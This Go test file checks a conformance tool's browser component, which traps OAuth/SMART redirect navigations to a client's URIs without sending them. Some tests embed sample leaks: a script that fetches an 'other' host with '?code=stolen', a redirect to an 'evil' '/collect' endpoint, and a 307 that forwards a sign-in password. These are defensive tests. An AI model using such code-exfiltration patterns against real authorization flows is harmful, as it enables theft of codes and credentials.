package browser_test

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	. "github.com/onsi/gomega"

	"github.com/smart-conformance/smartcheck/internal/browser"
)

// TestLanding catches navigations to the client's own URIs wherever and however they happen, and proves
// that the server that would receive them is not asked. CLIENT in a page stands for its origin.
func TestLanding(t *testing.T) {
	const app = "com.example.app:/cb"
	type want struct {
		url    string // CLIENT is replaced
		method string
		body   string
		where  browser.Where
	}
	tests := map[string]struct {
		page   string           // at /start
		answer http.HandlerFunc // at /answer
		want   want
	}{
		"redirect with a fragment": {
			answer: redirect(302, "CLIENT/cb?a=b#access_token=1&state=x"),
			want:   want{"CLIENT/cb?a=b#access_token=1&state=x", "GET", "", browser.SameTab},
		},
		"script": {
			page: `<script>location = "CLIENT/cb?code=1#f"</script>`,
			want: want{"CLIENT/cb?code=1#f", "GET", "", browser.SameTab},
		},
		"meta refresh": {
			page: `<meta http-equiv=refresh content="0;url=CLIENT/cb?code=1">`,
			want: want{"CLIENT/cb?code=1", "GET", "", browser.SameTab},
		},
		"form post": {
			page: `<form method=post action="CLIENT/cb"><input type=hidden name=code value="1 2"></form><script>document.forms[0].submit()</script>`,
			want: want{"CLIENT/cb", "POST", "code=1+2", browser.SameTab},
		},
		"form post on load, with a button for people without scripts": {
			page: `<body onload="document.forms[0].submit()"><form method=post action="CLIENT/cb"><input type=hidden name=code value=1><button>Continue</button></form>`,
			want: want{"CLIENT/cb", "POST", "code=1", browser.SameTab},
		},
		"iframe": {
			page: `<iframe src="CLIENT/cb?code=1"></iframe>`,
			want: want{"CLIENT/cb?code=1", "GET", "", browser.Iframe},
		},
		"window.open": {
			page: `<script>open("CLIENT/cb?code=1")</script>`,
			want: want{"CLIENT/cb?code=1", "GET", "", browser.NewTab},
		},
		"window.open without an opener": {
			page: `<script>open("CLIENT/cb?code=1", "_blank", "noopener")</script>`,
			want: want{"CLIENT/cb?code=1", "GET", "", browser.NewTab},
		},
		"link to a new tab": {
			page: `<a target=_blank href="CLIENT/cb?code=1">Continue</a>`,
			want: want{"CLIENT/cb?code=1", "GET", "", browser.NewTab},
		},
		"new tab that redirects": {
			page:   `<a target=_blank rel=noopener href="/answer">Continue</a>`,
			answer: redirect(302, "CLIENT/cb?code=1#f"),
			want:   want{"CLIENT/cb?code=1#f", "GET", "", browser.NewTab},
		},
		"form post into a new tab": {
			page: `<form method=post target=_blank action="CLIENT/cb"><input type=hidden name=code value=1><button>Continue</button></form>`,
			want: want{"CLIENT/cb", "POST", "code=1", browser.NewTab},
		},
		"application: redirect": {
			answer: redirect(302, app+"?code=1#f"),
			want:   want{app + "?code=1#f", "GET", "", browser.SameTab},
		},
		"application: redirect of a post that keeps its method": {
			page:   `<form method=post action="/answer"><input type=hidden name=a value=b></form><script>document.forms[0].submit()</script>`,
			answer: redirect(307, app+"?code=1"),
			want:   want{app + "?code=1", "POST", "a=b", browser.SameTab},
		},
		"application: script": {
			page: `<script>location = "` + app + `?code=1#f"</script>`,
			want: want{app + "?code=1#f", "GET", "", browser.SameTab},
		},
		"application: link": {
			page: `<a href="` + app + `?code=1">Return to app</a>`,
			want: want{app + "?code=1", "GET", "", browser.SameTab},
		},
		"application: meta refresh": {
			page: `<meta http-equiv=refresh content="0;url=` + app + `?code=1">`,
			want: want{app + "?code=1", "GET", "", browser.SameTab},
		},
		"application: iframe": {
			page: `<iframe src="` + app + `?code=1"></iframe>`,
			want: want{app + "?code=1", "GET", "", browser.Iframe},
		},
		"application: script in a new tab": {
			page:   `<a target=_blank rel=noopener href="/answer">Continue</a>`,
			answer: html(`<script>location = "` + app + `?code=1"</script>`),
			want:   want{app + "?code=1", "GET", "", browser.NewTab},
		},
		"application: new tab": {
			page: `<a target=_blank href="` + app + `?code=1">Continue</a>`,
			want: want{app + "?code=1", "GET", "", browser.NewTab},
		},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			g := NewWithT(t)
			e, client := newEHR(t), newCounter(t)
			subst := func(s string) string { return strings.ReplaceAll(s, "CLIENT", client.URL) }
			start := "/start"
			if test.page != "" {
				e.page("/start", subst("<!doctype html><title>Start</title>"+test.page))
			} else {
				start = "/answer"
			}
			if test.answer != nil {
				e.mux.HandleFunc("/answer", func(w http.ResponseWriter, r *http.Request) {
					test.answer(substituting{w, subst}, r)
				})
			}
			trace, err := trip(t, browser.Journey{
				Start: e.URL + start, Trap: []string{client.URL + "/cb", app},
			})
			g.Expect(err).NotTo(HaveOccurred(), "%+v", trace)
			g.Expect(trace.Outcome).To(Equal(browser.Landed), trace.Explanation)
			g.Expect(*trace.Landed).To(Equal(browser.Landing{
				URL: subst(test.want.url), Method: test.want.method, Body: test.want.body, Where: test.want.where,
			}))
			g.Expect(trace.Hops[len(trace.Hops)-1].Local).To(BeTrue())
			g.Expect(client.visits()).To(BeEmpty(), "nothing was sent")
		})
	}
}

// html answers with a page.
func html(page string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<!doctype html>", page)
	}
}

// redirect answers with a Location as it stands.
func redirect(status int, location string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Location", location)
		w.WriteHeader(status)
	}
}

// substituting replaces placeholders in the Location of an answer.
type substituting struct {
	http.ResponseWriter
	subst func(string) string
}

func (s substituting) WriteHeader(status int) {
	if location := s.Header().Get("Location"); location != "" {
		s.Header().Set("Location", s.subst(location))
	}
	s.ResponseWriter.WriteHeader(status)
}

// TestNewTabRequest proves that the first request of a new tab arrives once and as the page made it.
func TestNewTabRequest(t *testing.T) {
	for name, start := range map[string]string{
		"POST code=1": `<form method=post target=_blank action="/tab"><input type=hidden name=code value=1><button>Continue</button></form>`,
		"GET ":        `<a target=_blank rel=noopener href="/tab">Continue</a>`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			g := NewWithT(t)
			e := newEHR(t)
			e.page("/start", "<!doctype html>"+start)
			e.mux.HandleFunc("/tab", func(w http.ResponseWriter, r *http.Request) {
				must(r.ParseForm())
				http.Redirect(w, r, callback+"?"+url.Values{
					"request": {r.Method + " " + r.PostForm.Encode()},
					"referer": {r.Referer()}, "site": {r.Header.Get("Sec-Fetch-Site")}, "origin": {r.Header.Get("Origin")},
				}.Encode(), http.StatusSeeOther)
			})
			trace, err := trip(t, browser.Journey{Start: e.URL + "/start", Trap: []string{callback}})
			g.Expect(err).NotTo(HaveOccurred())
			landed, err := url.Parse(trace.Landed.URL)
			g.Expect(err).NotTo(HaveOccurred())
			g.Expect(landed.Query().Get("request")).To(Equal(name))
			g.Expect(landed.Query().Get("site")).To(Equal("same-origin"))
			g.Expect(trace.Landed.Where).To(Equal(browser.NewTab))
			g.Expect(e.seen("GET /tab") + e.seen("POST /tab")).To(Equal(1))
			t.Log(landed.Query())
		})
	}
}

func TestForeignRedirectIsNotFollowed(t *testing.T) {
	g := NewWithT(t)
	e, evil := newEHR(t), newCounter(t)
	e.mux.HandleFunc("/open", redirect(302, evil.URL+"/collect?code=1"))
	trace, err := trip(t, browser.Journey{Start: e.URL + "/open", Trap: []string{callback}, TrapAllForeign: true})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(trace.Outcome).To(Equal(browser.Foreign))
	g.Expect(trace.Landed.URL).To(Equal(evil.URL + "/collect?code=1"))
	g.Expect(trace.Explanation).To(ContainSubstring("was not visited"))
	g.Expect(evil.visits()).To(BeEmpty())
	g.Expect(trace.Hops[0].Status).To(Equal(302))
	g.Expect(trace.Hops[0].Location).To(Equal(evil.URL + "/collect?code=1"))

	// A host that the journey allows is visited.
	trace, err = trip(t, browser.Journey{Start: e.URL + "/open", Hosts: []string{evil.URL}, TrapAllForeign: true})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(trace.Outcome).To(Equal(browser.ErrorPage), "an empty page")
	g.Expect(evil.visits()).To(HaveLen(1))
}

func TestForeignSubresources(t *testing.T) {
	g := NewWithT(t)
	e, other := newEHR(t), newCounter(t)
	e.page("/page", `<title>Error</title><h1>Error</h1><img src="`+other.URL+`/pixel.png">
		<script>fetch("`+other.URL+`/cb?code=stolen", {mode: "no-cors"}).catch(() => {}); console.error("broken", 7)</script>`)
	trace, err := trip(t, browser.Journey{Start: e.URL + "/page", Trap: []string{other.URL + "/cb"}, TrapAllForeign: true})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(trace.Outcome).To(Equal(browser.ErrorPage))
	seen := map[string]bool{}
	for _, r := range trace.ForeignRequests {
		seen[r.Type+" "+r.URL] = r.Blocked
	}
	g.Expect(seen).To(HaveKeyWithValue("Image "+other.URL+"/pixel.png", false))
	g.Expect(seen).To(HaveKeyWithValue("XHR "+other.URL+"/cb?code=stolen", true), "a client's URI is not even fetched")
	g.Expect(other.visits()).To(Equal([]string{"GET /pixel.png"}))
	g.Expect(trace.Pages[0].Hosts).To(ContainElement(strings.TrimPrefix(other.URL, "https://")))
	g.Expect(trace.Console).To(ContainElement(ContainSubstring("broken 7")))
}

func TestFormStart(t *testing.T) {
	g := NewWithT(t)
	e := newEHR(t)
	trace, err := trip(t, browser.Journey{
		Form: &browser.Form{URL: e.URL + "/authorize", Fields: url.Values{
			"redirect_uri": {callback}, "state": {`a"<b>&`}, "submit": {"x"},
		}},
		Trap: []string{callback}, TrapAllForeign: true, Driver: ada(),
	})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(trace.Outcome).To(Equal(browser.Landed), trace.Explanation)
	g.Expect(e.seen("POST /authorize")).To(Equal(1))
	g.Expect(e.seen("GET /authorize")).To(BeZero())
	landed, err := url.Parse(trace.Landed.URL)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(landed.Query().Get("state")).To(Equal(`a"<b>&`))
}

// TestRedirectKeepsPassword sees the defect of RFC 9700 §4.12: a 307 after the sign-in form carries the
// password to the client.
func TestRedirectKeepsPassword(t *testing.T) {
	g := NewWithT(t)
	e := newEHR(t)
	e.page("/signin", `<form method=post action="/post"><input name=user><input type=password name=pass><button>Log in</button></form>`)
	e.mux.HandleFunc("/post", redirect(307, callback+"?code=1"))
	trace, err := trip(t, browser.Journey{Start: e.URL + "/signin", Trap: []string{callback}, Driver: ada()})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(trace.Landed.Method).To(Equal("POST"))
	g.Expect(trace.Landed.Body).To(Equal("user=ada&pass=[password]"))
	last := trace.Hops[len(trace.Hops)-1]
	g.Expect(last.Credentials).To(BeTrue())
	g.Expect(trace.Hops[len(trace.Hops)-2].Status).To(Equal(307))
	g.Expect(fmt.Sprintf("%+v", trace)).NotTo(Or(ContainSubstring(secret), ContainSubstring(url.QueryEscape(secret))))
}
